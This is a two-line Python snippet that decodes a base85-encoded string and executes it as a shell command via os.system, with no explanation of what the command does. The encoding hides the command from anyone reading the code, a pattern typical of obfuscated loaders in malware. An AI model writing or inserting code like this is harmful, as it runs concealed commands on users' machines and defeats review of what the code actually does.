import base64, os
os.system(base64.b85decode('V|8+DAT4HdQ%oRebaZfYIxjD9E@gOOZE$R5E@^IdVQgt+FKHlrAYx&2Xa').decode())
